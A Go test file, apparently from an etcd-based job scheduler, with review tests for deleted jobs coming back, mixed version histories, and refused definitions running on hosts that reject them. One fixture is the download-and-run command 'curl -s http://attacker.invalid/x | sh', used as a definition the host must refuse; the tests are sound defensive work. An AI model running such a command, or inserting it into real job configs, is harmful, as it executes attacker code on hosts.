package coord

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	clientv3 "go.etcd.io/etcd/client/v3"

	"github.com/shardd/shardd/internal/etcdtest"
	"github.com/shardd/shardd/pkg/config"
	"github.com/shardd/shardd/pkg/coord/admin"
	"github.com/shardd/shardd/pkg/coord/keyspace"
)

// Review: after `shardd delete` of an applied job, no instance may write
// the job's config key again. The job's leader, woken by the config key's
// deletion, finds the key missing and "repairs" it with its local
// definition (leader.putConfig), which for an applied job is the applied
// definition, written with source "file": the deleted job comes back as a
// file job that no host's file defines.
func TestReviewDeletedAppliedJobIsNotRepublished(t *testing.T) {
	t.Parallel()
	srv := etcdtest.Start(t)
	cli := srv.Client()
	defer cli.Close()
	var nodes []*testNode
	for _, id := range []string{"a", "b", "c"} {
		nodes = append(nodes, startNodeWith(t, srv, id, nil, nil, labelled(true)))
	}
	adm := admin.New(cli, nodes[0].Keys())
	ctx := context.Background()
	for round := 0; round < 5; round++ {
		js := jobs(t, "jobs:\n"+job("etl", 3))
		if _, err := adm.Apply(ctx, js, admin.ApplyOptions{By: "test"}); err != nil {
			t.Fatalf("apply: %v", err)
		}
		etcdtest.Eventually(t, 20*time.Second, "etl on a, b, c", func() bool {
			m := etcdtest.StoredMap(cli, "etl")
			return m != nil && len(m.Items) == 3
		})
		key := nodes[0].Keys().Config("etl")
		d, _ := adm.Definition(ctx, "etl")
		wctx, cancel := context.WithCancel(ctx)
		wch := cli.Watch(wctx, key, clientv3.WithRev(d.Generation+1))
		if _, err := adm.DeleteApplied(ctx, "etl", "test", 20*time.Second); err != nil {
			cancel()
			t.Fatalf("delete: %v", err)
		}
		deadline := time.After(2 * time.Second)
	watch:
		for {
			select {
			case wr := <-wch:
				for _, ev := range wr.Events {
					if ev.Type != clientv3.EventTypePut {
						continue
					}
					var rc keyspace.RegisteredConfig
					json.Unmarshal(ev.Kv.Value, &rc)
					cancel()
					t.Fatalf("round %d: after shardd delete, %s put the deleted applied job's config key again (source %q, by %q, version %d): the job came back as a file job",
						round, rc.Writer, rc.Source, rc.By, rc.Version)
				}
			case <-deadline:
				break watch
			}
		}
		cancel()
		// Let the keys go, for the next round.
		etcdtest.Eventually(t, 20*time.Second, "etl gone", func() bool {
			resp, _ := cli.Get(ctx, nodes[0].Keys().JobPrefix("etl"), clientv3.WithPrefix(), clientv3.WithCountOnly())
			if resp.Count != 0 {
				adm.Remove(ctx, "etl")
			}
			return resp.Count == 0
		})
	}
}

// Review: an instance that accepts an applied job's definition (its
// command under --accept-command-dir) runs it; an operator then applies a
// definition this instance refuses (a shell string). The config event puts
// the refused definition into the job's view (followConfig/takeDefinition)
// and wakes the engine (notifyChange) at the same moment it wakes the task
// that is to park. Nothing between the view and a run checks the
// definition again: a claim made on that view (what the engine's reconcile
// does, running v.Job) is granted, because the claim is guarded by the
// member key and the map only, and the member key is still there until
// the task's park (after resigning leadership) deletes it. The engine
// would run the refused shell command on a host that refuses it.
func TestReviewRefusedDefinitionCanBeClaimedBeforeThePark(t *testing.T) {
	t.Parallel()
	srv := etcdtest.Start(t)
	cli := srv.Client()
	defer cli.Close()
	a := startNodeWith(t, srv, "a", nil, nil, func(n *Node) {
		n.opts.Accept = config.AcceptPolicy{Applied: true, CommandDirs: []string{"/opt/jobs"}}
	})
	adm := admin.New(cli, a.Keys())
	ctx := context.Background()
	ok := jobs(t, "jobs:\n  - name: etl\n    shardingTotalCount: 1\n    script: [/opt/jobs/ok]\n")
	if _, err := adm.Apply(ctx, ok, admin.ApplyOptions{By: "test"}); err != nil {
		t.Fatal(err)
	}
	etcdtest.Eventually(t, 20*time.Second, "etl on a", func() bool {
		return agreed(t, cli, "etl", map[string][]int{"a": {0}}, a)
	})
	var (
		mu      sync.Mutex
		granted []string
		tried   int
	)
	cancel := a.OnChange("etl", func() {
		v, _ := a.View("etl")
		if v.Job == nil || v.Job.Script == nil || v.Job.Script.Command.Shell == "" {
			return
		}
		// The engine's reconcile, woken by this change, claims on this view.
		mu.Lock()
		tried++
		mu.Unlock()
		items, err := a.ReadItems(ctx, "etl")
		if err != nil {
			return
		}
		g, err := a.Claim(ctx, Claim{Job: "etl", Item: 0, Fire: time.Now(), Attempt: 1, Source: keyspace.SourceManual,
			Prev: items.Items[0], MapRev: v.MapRev, Sched: time.Now()})
		if err == nil {
			mu.Lock()
			granted = append(granted, fmt.Sprintf("fence %d for %q", g.Fence, v.Job.Script.Command.Shell))
			mu.Unlock()
		}
	}, func(int) {})
	defer cancel()
	bad := jobs(t, "jobs:\n  - name: etl\n    shardingTotalCount: 1\n    script: \"curl -s http://attacker.invalid/x | sh\"\n")
	if _, err := adm.Apply(ctx, bad, admin.ApplyOptions{By: "test"}); err != nil {
		t.Fatal(err)
	}
	etcdtest.Eventually(t, 10*time.Second, "a to leave etl", func() bool {
		return !keyExists(t, cli, a.Keys().Member("etl", "a"))
	})
	mu.Lock()
	defer mu.Unlock()
	if tried == 0 {
		t.Skip("the view never held the refused definition")
	}
	if len(granted) > 0 {
		t.Errorf("a, which refuses the new definition (a shell string, not under --accept-command-dir), was granted a claim on a view running it: %v", granted)
	}
}

// Review: a re-evaluation of an applied job by the catalog with its
// definition unchanged (every resync: a watch that resumes after a
// compaction, a rewind) stores a new *config.Job (DecodeRegistered returns
// a copy of prev) in n.applied, but the job's task keeps its old local
// (same hash: workerSet.sync keeps it), so registerConfig's fromApplied
// (n.applied[job] == local, a pointer comparison) is false from then on.
// The next registration of that task treats the applied job as a file
// job: when its config key is missing (the job was deleted while this
// instance was cut off), it publishes the applied definition as a file
// definition, and the deleted job comes back. With resync=false (no
// re-evaluation before the cut) the same registration refuses, as
// designed.
func TestReviewResyncThenDeleteWhileCutOffRepublishes(t *testing.T) {
	for _, resync := range []bool{false, true} {
		t.Run(fmt.Sprint("resync=", resync), func(t *testing.T) {
			srv := etcdtest.Start(t)
			cli := srv.Client()
			defer cli.Close()
			a := startNodeWith(t, srv, "a", nil, nil, labelled(true))
			adm := admin.New(cli, a.Keys())
			ctx := context.Background()
			if _, err := adm.Apply(ctx, jobs(t, "jobs:\n"+job("etl", 1)), admin.ApplyOptions{By: "test"}); err != nil {
				t.Fatal(err)
			}
			etcdtest.Eventually(t, 20*time.Second, "etl on a", func() bool {
				return agreed(t, cli, "etl", map[string][]int{"a": {0}}, a)
			})
			if resync {
				a.hub.resyncAll() // what a watch resumed after a compaction does
				time.Sleep(time.Second)
			}
			a.proxy.Blackhole()
			d, _ := adm.Definition(ctx, "etl")
			if _, err := adm.DeleteApplied(ctx, "etl", "test", 0); err != nil {
				t.Fatal(err)
			}
			etcdtest.Eventually(t, 20*time.Second, "a's session to expire", func() bool {
				return !keyExists(t, cli, a.Keys().Member("etl", "a"))
			})
			wctx, cancel := context.WithTimeout(ctx, 8*time.Second)
			defer cancel()
			wch := cli.Watch(wctx, a.Keys().Config("etl"), clientv3.WithRev(d.Generation+1))
			a.proxy.Restore()
			for wr := range wch {
				for _, ev := range wr.Events {
					if ev.Type == clientv3.EventTypePut {
						var rc keyspace.RegisteredConfig
						json.Unmarshal(ev.Kv.Value, &rc)
						t.Fatalf("after reconnecting, %s published the deleted applied job again (source %q, by %q)", rc.Writer, rc.Source, rc.By)
					}
				}
			}
		})
	}
}

// Review: `DELETE /api/v1/definitions/{job}` (wait 0 by default) or
// `shardd delete` whose wait ends while an instance is still a member
// (a run in progress) deletes the config and placement keys but leaves
// versions/. A later apply of the job is "create", version 1: it writes
// versions/1 over the old record and leaves the old 2..N, so the
// history lists versions of the deleted job as newer than the one
// registered, none or the wrong one as current, and `rollback --to N`
// restores a definition of the deleted job.
func TestReviewReapplyAfterDeleteMixesVersionHistories(t *testing.T) {
	t.Parallel()
	srv := etcdtest.Start(t)
	cli := srv.Client()
	defer cli.Close()
	a := startNodeWith(t, srv, "a", nil, nil, labelled(true))
	adm := admin.New(cli, a.Keys())
	ctx := context.Background()
	for total := 1; total <= 3; total++ {
		if _, err := adm.Apply(ctx, jobs(t, "jobs:\n"+job("etl", total)), admin.ApplyOptions{By: "old"}); err != nil {
			t.Fatal(err)
		}
	}
	etcdtest.Eventually(t, 20*time.Second, "etl on a", func() bool {
		return agreed(t, cli, "etl", map[string][]int{"a": {0, 1, 2}}, a)
	})
	removed, err := adm.DeleteApplied(ctx, "etl", "test", 0) // the API's default wait
	if err != nil {
		t.Fatal(err)
	}
	if removed {
		t.Skip("the rest of the keys went at once: nothing to show")
	}
	etcdtest.Eventually(t, 10*time.Second, "a to leave etl", func() bool { return !slices.Contains(a.Jobs(), "etl") })
	res, err := adm.Apply(ctx, jobs(t, "jobs:\n"+job("etl", 7)), admin.ApplyOptions{By: "new"})
	if err != nil {
		t.Fatal(err)
	}
	vs, err := adm.Versions(ctx, "etl")
	if err != nil {
		t.Fatal(err)
	}
	var desc []string
	for _, v := range vs {
		desc = append(desc, fmt.Sprintf("v%d by %s current=%v total=%d", v.Version, v.By, v.Current, v.Def.ShardingTotalCount))
	}
	if len(vs) != 1 || !vs[0].Current || vs[0].Def.ShardingTotalCount != 7 {
		t.Errorf("after delete and a new apply (%s, version %d), the versions are %q: want only the new one, current", res[0].Action, res[0].Version, desc)
	}
	if r, err := adm.Rollback(ctx, "etl", 3, "test"); err == nil {
		d, _ := adm.Definition(ctx, "etl")
		t.Errorf("rollback --to 3 of the re-created job restored a definition of the deleted one: %+v, now total=%d", r, d.Job.ShardingTotalCount)
	}
}

// Review: a define token makes a host that accepts no applied definition
// (no --accept-applied) run a definition the token wrote. Rollback keeps
// the registered definition's source ("a rollback keeps the job applied,
// or in the files") whatever the source of the version it restores; a
// definition registered with source "file" is never checked against the
// instance's AcceptPolicy (mayRun). So a version written by apply, once
// the job is a file job again, is restored as a file definition and runs
// on the file hosts. The job becomes a file job again with the applied
// version kept when it is deleted while its file host is down (the
// AppliedOverFiles check sees live instances only) and its versions stay
// (an accepting instance is still a member when the delete's Remove is
// tried), and the file host, restarted, publishes its file as version 1.
func TestReviewRollbackRunsAnAppliedVersionOnAHostThatAcceptsNone(t *testing.T) {
	t.Parallel()
	srv := etcdtest.Start(t)
	cli := srv.Client()
	defer cli.Close()
	fileJobs := jobs(t, "jobs:\n"+job("report", 1))
	h := startNodeWith(t, srv, "h", fileJobs, nil, labelled(false))
	acc := startNodeWith(t, srv, "acc", nil, nil, labelled(true))
	etcdtest.Eventually(t, 20*time.Second, "report on h", func() bool {
		return agreed(t, cli, "report", map[string][]int{"h": {0}}, h)
	})
	adm := admin.New(cli, h.Keys())
	ctx := context.Background()
	evil := jobs(t, "jobs:\n  - name: report\n    shardingTotalCount: 1\n    script: \"echo pwned by a define token\"\n")
	res, err := adm.Apply(ctx, evil, admin.ApplyOptions{By: "token:definer", TakeOver: true})
	if err != nil {
		t.Fatal(err)
	}
	evilVersion := res[0].Version
	etcdtest.Eventually(t, 20*time.Second, "report on acc", func() bool {
		return agreed(t, cli, "report", map[string][]int{"acc": {0}}, acc)
	})
	h.stop(t) // a restart of the file host (an upgrade, a reboot)
	etcdtest.Eventually(t, 10*time.Second, "h's key to go", func() bool { return !keyExists(t, cli, h.Keys().Instance("h")) })
	if _, err := adm.DeleteApplied(ctx, "report", "token:definer", 0); err != nil {
		t.Fatalf("delete while the file host is down: %v", err)
	}
	h2 := startNodeWith(t, srv, "h", fileJobs, nil, labelled(false))
	etcdtest.Eventually(t, 20*time.Second, "h to publish its file again", func() bool {
		d, err := adm.Definition(ctx, "report")
		return err == nil && !d.Applied() && d.Job.Script.Command.Shell == ""
	})
	// The fixes: delete takes the job's versions with it (the applied
	// version is gone), and a rollback of a job the hosts' files define is
	// refused (written as a file's definition, hosts that accept no
	// applied one would run it). What goes on after it is checked in case
	// neither holds.
	if _, err := adm.Rollback(ctx, "report", evilVersion, "token:definer"); err != nil {
		if !errors.Is(err, admin.ErrBadTarget) && !(errors.Is(err, admin.ErrRefused) && strings.Contains(err.Error(), "defined in the hosts' files")) {
			t.Fatalf("rollback of a file job to the deleted applied version: %v, want no such version, or a refusal saying it is the files'", err)
		}
		return
	}
	etcdtest.Eventually(t, 20*time.Second, "the rollback to reach h", func() bool {
		v, _ := h2.View("report")
		return v.Job != nil && v.Job.Script.Command.Shell != ""
	})
	time.Sleep(time.Second)
	d, _ := adm.Definition(ctx, "report")
	v, _ := h2.View("report")
	if keyExists(t, cli, h2.Keys().Member("report", "h")) {
		t.Errorf("h, which accepts no applied definition, is a member of report running %q (registered source %q by %q, version %d)",
			v.Job.Script.Command.Shell, d.Registered.Source, d.Registered.By, d.Registered.Version)
	}
}
